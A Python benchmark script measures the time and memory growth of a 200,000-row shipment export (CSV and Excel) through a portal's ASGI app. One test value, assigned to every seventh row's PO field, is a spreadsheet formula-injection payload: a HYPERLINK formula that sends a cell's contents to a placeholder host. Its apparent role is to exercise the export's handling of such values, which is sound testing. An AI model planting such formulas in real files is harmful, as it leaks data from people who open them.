"""Exports at scale: one customer's shipment export of 200,000 rows (CSV and Excel) through the real ASGI app,
its time and how much the process's memory grows while it is written.

Part of `python -m bench` (skip with --no-exports). On its own:

    .venv/bin/python -m bench.exports --rows 200000

builds bench/data/exports-<N>.db once (the demo seed without shipments, plus N plain shipments of the demo
customer Acme inserted in bulk; --rebuild starts over), then runs each format in a fresh process, which warms up
with a one-row export, downloads the whole export and reports the time and its peak resident memory over the
warmed-up process's. The suite's `tests/services/test_export_memory.py` uses the same data builder and ASGI client on a
smaller data set.
"""

from __future__ import annotations

import argparse
import asyncio
import itertools
import json
import os
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from pathlib import Path
from urllib.parse import urlencode

import sqlalchemy as sa

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent
CUSTOMER = "alice@acme.example"
PASSWORD = "demo-Pass-2026"
FORMULA_PO = '=HYPERLINK("http://x.invalid/"&A2,"X")'
INSERT_CHUNK = 20_000


def plain_shipments(company_id: int, origin_id: int, destination_id: int, rows: int) -> Iterator[dict]:
    """Rows for the shipment table with only what the export reads. Every third has no departure (a missing
    date), every seventh a formula-like PO, and delays run from early (negative) to late."""
    start = datetime(2026, 1, 1, tzinfo=UTC)
    for i in range(rows):
        yield {
            "reference": f"SX{i:07d}", "company_id": company_id, "mode": "ocean_fcl", "status": "in_transit",
            "origin_id": origin_id, "destination_id": destination_id,
            "customer_po": FORMULA_PO if i % 7 == 0 else f"PO-{i}",
            "etd_planned": None if i % 3 == 0 else start + timedelta(minutes=i),
            "eta_planned": start + timedelta(days=30, minutes=i),
            "delay_minutes": i % 600 - 120, "is_dangerous_goods": False, "version": 1, "open_exceptions": 0,
            "created_at": start, "updated_at": start + timedelta(seconds=i),
        }


def add_plain_shipments(engine: sa.Engine, rows: int, company_code: str = "ACME") -> None:
    """Insert ``rows`` plain shipments for one seeded company in bulk (executemany in chunks, one transaction)."""
    from models import Company, Location, Shipment

    with engine.begin() as conn:
        company_id = conn.execute(sa.select(Company.id).where(Company.code == company_code)).scalar_one()
        origin, destination = conn.execute(sa.select(Location.id).order_by(Location.id).limit(2)).scalars().all()
        chunks = plain_shipments(company_id, origin, destination, rows)
        while chunk := list(itertools.islice(chunks, INSERT_CHUNK)):
            conn.execute(sa.insert(Shipment.__table__), chunk)


def build_database(url: str, rows: int) -> None:
    """The demo seed without shipments (companies, people, places) plus ``rows`` plain shipments of Acme."""
    import seed
    from portal_app.db import make_engine, refresh_planner_statistics

    engine = make_engine(url)
    seed.create_schema(engine)
    seed.run(engine, shipments=0, write_files=False)
    add_plain_shipments(engine, rows)
    refresh_planner_statistics(engine)
    engine.dispose()


def session_cookie(app: object, email: str = CUSTOMER) -> str:
    """A ``Cookie`` header value of a fresh sign-in."""
    from fastapi.testclient import TestClient

    from portal_app.auth.sessions import SESSION_COOKIE

    client = TestClient(app)
    client.post("/api/auth/login", json={"email": email, "password": PASSWORD}).raise_for_status()
    return f"{SESSION_COOKIE}={client.cookies[SESSION_COOKIE]}"


@dataclass(frozen=True)
class Streamed:
    status: int
    bytes: int
    lines: int


async def _stream(app: object, path: str, params: dict[str, str], cookie: str) -> Streamed:
    """One GET through the ASGI app, counting the body as it arrives and keeping none of it."""
    scope = {
        "type": "http", "asgi": {"version": "3.0", "spec_version": "2.4"}, "http_version": "1.1", "method": "GET",
        "scheme": "http", "path": path, "raw_path": path.encode(), "root_path": "",
        "query_string": urlencode(params).encode(), "headers": [(b"host", b"bench"), (b"cookie", cookie.encode())],
        "client": ("127.0.0.1", 50000), "server": ("bench", 80),
    }
    status, size, lines = 0, 0, 0
    done = asyncio.Event()

    async def receive() -> dict:
        if not done.is_set():
            done.set()
            return {"type": "http.request", "body": b"", "more_body": False}
        await asyncio.Event().wait()  # no disconnect while the answer streams
        return {"type": "http.disconnect"}

    async def send(message: dict) -> None:
        nonlocal status, size, lines
        if message["type"] == "http.response.start":
            status = message["status"]
        elif message["type"] == "http.response.body":
            size += len(message.get("body", b""))
            lines += message.get("body", b"").count(b"\n")

    await app(scope, receive, send)
    return Streamed(status, size, lines)


def stream_export(app: object, cookie: str, **params: str) -> Streamed:
    """``GET /api/v1/shipments/export`` with ``params``, streamed and thrown away as it comes."""
    return asyncio.run(_stream(app, "/api/v1/shipments/export", params, cookie))


def _private_mb() -> float:
    """Resident anonymous memory (heap and stacks); file-backed pages are left out (see bench/load_events.py)."""
    import psutil

    info = psutil.Process().memory_info()
    return (info.rss - info.shared) / 2**20


class _PeakSampler(threading.Thread):
    """The highest private memory seen while it runs (sampled every 10 ms)."""

    def __init__(self) -> None:
        super().__init__(daemon=True)
        self.peak = _private_mb()
        self._halt = threading.Event()

    def run(self) -> None:
        while not self._halt.wait(0.01):
            self.peak = max(self.peak, _private_mb())

    def stop(self) -> float:
        self._halt.set()
        self.join()
        return max(self.peak, _private_mb())


def _child(fmt: str) -> None:
    """In a fresh process pointed at the export database: warm up, then download the whole export once."""
    from portal_app.api.app import build_api

    app = build_api()
    cookie = session_cookie(app)
    warm = stream_export(app, cookie, format=fmt, q="SX0000001")
    assert warm.status == 200, warm
    before = _private_mb()
    sampler = _PeakSampler()
    sampler.start()
    start = time.perf_counter()
    done = stream_export(app, cookie, format=fmt)
    seconds = time.perf_counter() - start
    peak = sampler.stop()
    assert done.status == 200, done
    print(json.dumps({"seconds": seconds, "memory_growth_mb": peak - before, "bytes": done.bytes,
                      "lines": done.lines}))


@dataclass(frozen=True)
class ExportRun:
    seconds: float
    memory_growth_mb: float  # peak private memory while exporting, over the warmed-up process's
    bytes: int
    lines: int


def run_in_fresh_process(url: str, data_dir: Path, fmt: str) -> ExportRun:
    """Export Acme's shipments from the database at ``url`` once, in a new Python process (nothing allocated
    before it hides or adds to the figure)."""
    env = {**os.environ, "REFLEX_DB_URL": url, "PORTAL_DATA_DIR": str(data_dir), "PORTAL_LOGIN_IP_LIMIT": "100000",
           # The database file read through memory mapping would count as the process's own pages.
           "PORTAL_SQLITE_MMAP_MB": "0"}
    out = subprocess.run([sys.executable, "-m", "bench.exports", "--child", fmt], cwd=ROOT, env=env, check=True,
                         capture_output=True, text=True, timeout=900)
    figures = json.loads(out.stdout.strip().splitlines()[-1])
    return ExportRun(**figures)


def measure_exports(rows: int = 200_000, rebuild: bool = False) -> list[tuple[str, float, str]]:
    """Figures (name, value, unit) of a ``rows``-row export in each format."""
    data = HERE / "data"
    data.mkdir(parents=True, exist_ok=True)
    path = data / f"exports-{rows}.db"
    url = f"sqlite:///{path}"
    if rebuild or not path.exists():
        for stale in data.glob(f"exports-{rows}.db*"):
            stale.unlink()
        build_database(url, rows)
    values: list[tuple[str, float, str]] = []
    for fmt in ("csv", "xlsx"):
        run = run_in_fresh_process(url, data, fmt)
        values += [
            (f"export_{rows}_rows_{fmt}_seconds", round(run.seconds, 1), "s"),
            (f"export_{rows}_rows_{fmt}_memory_growth", round(run.memory_growth_mb, 1), "MB"),
            (f"export_{rows}_rows_{fmt}_size", round(run.bytes / 1e6, 1), "MB"),
        ]
    return values


def main(argv: list[str] | None = None) -> int:
    parser = argparse.ArgumentParser(prog="python -m bench.exports", description=__doc__)
    parser.add_argument("--rows", type=int, default=200_000)
    parser.add_argument("--rebuild", action="store_true", help="build the export database again")
    parser.add_argument("--child", choices=("csv", "xlsx"), help=argparse.SUPPRESS)
    args = parser.parse_args(argv)
    if args.child:
        _child(args.child)
        return 0
    for name, value, unit in measure_exports(args.rows, args.rebuild):
        print(f"{name:40} {value:>10} {unit}")
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
